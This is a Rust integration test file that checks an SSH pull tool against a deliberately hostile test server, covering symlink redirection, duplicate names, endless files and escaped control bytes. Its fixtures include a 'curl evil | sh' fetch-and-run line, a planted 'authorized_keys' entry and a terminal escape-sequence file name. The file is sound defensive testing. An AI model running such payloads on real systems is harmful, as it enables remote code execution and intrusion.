//! `ajssh --pull` against a server that lies (the harness's
//! `HostileServer`): nothing is written outside `--into`, a canary outside it
//! (a 600 file, a 700 directory) keeps its content and mode, the run exits
//! non-zero with a clear message whose remote text is escaped, and endless
//! files stop at their announced size or at `--max-file-size`.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use asyncjobs_tests::hostile::{HostileServer, Lies, Node};

use crate::support::{ajssh_bare, run, Run};

fn serve(tree: Node) -> HostileServer {
    HostileServer::start(Lies {
        tree,
        ..Lies::default()
    })
    .unwrap_or_else(|e| panic!("cannot start the hostile server: {e}"))
}

/// `ajssh` logging in to `server` under the name `web` (an ssh config in
/// `dir`), so that runs against different servers pull into the same
/// `LOCALDIR/web/`.
fn ajssh(server: &HostileServer, dir: &Path) -> Command {
    let config = dir.join(format!("ssh_config-{}", server.host().port));
    std::fs::write(
        &config,
        format!(
            "Host web\n    HostName {}\n    Port {}\n    User hostile\n    IdentityFile {}\n",
            server.host().ip,
            server.host().port,
            server.identity().display()
        ),
    )
    .unwrap();
    let mut c = ajssh_bare();
    c.arg("-F")
        .arg(&config)
        .arg("--known-hosts")
        .arg(server.known_hosts())
        .args(["--connect-timeout", "30", "--timeout", "120", "web"]);
    c
}

fn pull(server: &HostileServer, sources: &[&str], into: &Path, extra: &[&str]) -> Run {
    let dir = into.parent().unwrap();
    run(ajssh(server, dir)
        .arg("--pull")
        .args(sources)
        .arg("--into")
        .arg(into)
        .args(extra))
}

/// A private file (600) and a private directory (700) outside `--into`.
struct Canary {
    file: PathBuf,
    private_dir: PathBuf,
}

impl Canary {
    fn new(dir: &Path) -> Canary {
        let file = dir.join("bashrc");
        std::fs::write(&file, "mine\n").unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
        let private_dir = dir.join("dot-ssh");
        std::fs::create_dir(&private_dir).unwrap();
        std::fs::set_permissions(&private_dir, std::fs::Permissions::from_mode(0o700)).unwrap();
        Canary { file, private_dir }
    }

    fn assert_untouched(&self) {
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
        assert_eq!(std::fs::read_to_string(&self.file).unwrap(), "mine\n");
        assert_eq!(mode(&self.file), 0o600);
        assert_eq!(mode(&self.private_dir), 0o700);
        assert_eq!(std::fs::read_dir(&self.private_dir).unwrap().count(), 0);
    }

    fn file_target(&self) -> String {
        self.file.to_str().unwrap().to_owned()
    }

    fn dir_target(&self) -> String {
        self.private_dir.to_str().unwrap().to_owned()
    }
}

fn no_raw_escape(r: &Run) {
    assert!(
        !r.stderr.contains('\x1b') && !r.stdout.contains('\x1b'),
        "{r:?}"
    );
}

#[test]
fn a_name_listed_as_a_link_then_a_file_fails_the_host_and_writes_nothing_outside() {
    let t = tempfile::tempdir().unwrap();
    let canary = Canary::new(t.path());
    for (name, second) in [
        ("bashrc", Node::file("curl evil | sh\n")),
        (
            "ssh",
            Node::dir([("authorized_keys", Node::file("attacker\n"))]),
        ),
    ] {
        let target = if name == "ssh" {
            canary.dir_target()
        } else {
            canary.file_target()
        };
        let server = serve(Node::dir([(
            "loot",
            Node::dir([(name, Node::link(target)), (name, second)]),
        )]));
        let r = pull(&server, &["loot"], &t.path().join("out"), &[]);
        assert_ne!(r.code, 0, "{r:?}");
        assert!(
            r.stderr.contains("loot/") && r.stderr.contains("twice"),
            "{r:?}"
        );
        canary.assert_untouched();
    }
}

#[test]
fn a_link_left_by_an_earlier_pull_is_replaced_on_the_next_one() {
    let t = tempfile::tempdir().unwrap();
    let canary = Canary::new(t.path());
    let out = t.path().join("out");
    let first = serve(Node::dir([(
        "loot",
        Node::dir([
            ("bashrc", Node::link(canary.file_target())),
            ("ssh", Node::link(canary.dir_target())),
        ]),
    )]));
    let r = pull(&first, &["loot"], &out, &[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(std::fs::symlink_metadata(out.join("web/loot/ssh"))
        .unwrap()
        .is_symlink());
    let second = serve(Node::dir([(
        "loot",
        Node::dir([
            ("bashrc", Node::file("curl evil | sh\n")),
            (
                "ssh",
                Node::dir([("authorized_keys", Node::file("attacker\n"))]),
            ),
        ]),
    )]));
    let r = pull(&second, &["loot"], &out, &[]);
    assert_eq!(r.code, 0, "{r:?}");
    canary.assert_untouched();
    assert_eq!(
        std::fs::read_to_string(out.join("web/loot/ssh/authorized_keys")).unwrap(),
        "attacker\n"
    );
}

#[test]
fn two_pull_sources_with_one_base_name_fail_before_writing() {
    let t = tempfile::tempdir().unwrap();
    let canary = Canary::new(t.path());
    let server = serve(Node::dir([
        ("a", Node::dir([("ssh", Node::link(canary.dir_target()))])),
        (
            "b",
            Node::dir([(
                "ssh",
                Node::dir([("authorized_keys", Node::file("attacker\n"))]),
            )]),
        ),
    ]));
    let out = t.path().join("out");
    let r = pull(&server, &["a/ssh", "b/ssh"], &out, &[]);
    assert_ne!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("same name ssh"), "{r:?}");
    assert!(!out.join("web/ssh").exists());
    canary.assert_untouched();
}

#[test]
fn an_endless_file_stops_at_its_size_or_at_max_file_size() {
    let t = tempfile::tempdir().unwrap();
    let server = serve(Node::dir([
        ("ten", Node::endless_file(10)),
        ("unsized", Node::endless_file(0)),
    ]));
    let out = t.path().join("out");
    let r = pull(&server, &["ten"], &out, &[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(std::fs::read(out.join("web/ten")).unwrap(), b"AAAAAAAAAA");
    let r = pull(&server, &["unsized"], &out, &["--max-file-size", "1M"]);
    assert_ne!(r.code, 0, "{r:?}");
    assert!(
        r.stderr.contains("unsized") && r.stderr.contains("1048576 bytes per file"),
        "{r:?}"
    );
    let left: Vec<_> = std::fs::read_dir(out.join("web"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, ["ten"], "no partial file is left");
}

#[test]
fn control_bytes_in_remote_names_reach_the_terminal_escaped() {
    let t = tempfile::tempdir().unwrap();
    let evil = "x\x1b]0;pwned\x07";
    let server = serve(Node::dir([(
        "loot",
        Node::dir([(evil, Node::file("1")), (evil, Node::file("2"))]),
    )]));
    let r = pull(&server, &["loot"], &t.path().join("out"), &[]);
    assert_ne!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("x\\x1b]0;pwned\\x07"), "{r:?}");
    no_raw_escape(&r);
}
